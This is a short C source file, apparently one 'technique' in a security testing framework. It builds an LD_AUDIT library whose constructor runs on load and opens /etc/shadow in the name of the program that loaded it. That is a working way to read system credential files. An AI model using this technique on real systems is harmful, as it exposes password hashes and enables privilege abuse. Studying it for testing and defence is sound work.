// SPDX-License-Identifier: Apache-2.0
// A library that reads a secret as soon as a program has loaded it, in that program's name.
#include "../technique.h"

const struct technique techniques[] = {{0}};

__attribute__((constructor)) static void act(void)
{
	first = getpid();
	scene = open("..", O_PATH | O_DIRECTORY | O_CLOEXEC);
	take(must(open("/etc/shadow", O_RDONLY), "open"));
	say("done", "reader");
	finish();
}

unsigned int la_version(unsigned int version) // what makes it a library of LD_AUDIT
{
	return version;
}
